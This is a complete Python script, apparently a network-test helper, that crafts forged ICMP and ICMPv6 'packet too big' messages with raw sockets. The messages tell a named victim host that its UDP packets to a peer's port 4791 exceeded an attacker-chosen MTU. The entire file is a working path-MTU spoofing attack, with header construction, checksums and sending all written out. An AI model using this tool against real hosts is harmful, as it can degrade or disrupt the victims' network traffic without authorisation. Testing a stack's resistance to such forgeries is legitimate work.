"""Sends forged "packet too big" messages, as any host can without spoofing: run inside the namespace of a host other than the
victim.

usage: packet_too_big.py VICTIM PEER MTU PORT...    VICTIM's packets from these source ports to PEER port 4791 were too big
"""
import socket
import struct
import sys

MRC_PORT = 4791


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def message4(victim, peer, mtu, port):
    udp = struct.pack(">HHHH", port, MRC_PORT, 4096, 0)
    head = struct.pack(">BBHHHBBH", 0x45, 0, 4116, 1, 0x4000, 64, socket.IPPROTO_UDP, 0) + socket.inet_aton(victim) + socket.inet_aton(peer)
    head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
    icmp = struct.pack(">BBHHH", 3, 4, 0, 0, mtu) + head + udp  # destination unreachable, fragmentation needed
    return icmp[:2] + struct.pack(">H", checksum(icmp)) + icmp[4:]


def message6(victim, peer, mtu, port):
    head = struct.pack(">IHBB", 0x60000000, 4096, socket.IPPROTO_UDP, 64)
    head += socket.inet_pton(socket.AF_INET6, victim) + socket.inet_pton(socket.AF_INET6, peer)
    # The kernel fills in the checksum of ICMPv6.
    return struct.pack(">BBHI", 2, 0, 0, mtu) + head + struct.pack(">HHHH", port, MRC_PORT, 4096, 0) + bytes(64)


def main():
    victim, peer, mtu, *ports = sys.argv[1:]
    if ":" in victim:
        family, protocol, message = socket.AF_INET6, socket.IPPROTO_ICMPV6, message6
    else:
        family, protocol, message = socket.AF_INET, socket.IPPROTO_ICMP, message4
    with socket.socket(family, socket.SOCK_RAW, protocol) as s:
        for port in map(int, ports):
            s.sendto(message(victim, peer, int(mtu), port), (victim, 0))


if __name__ == "__main__":
    main()
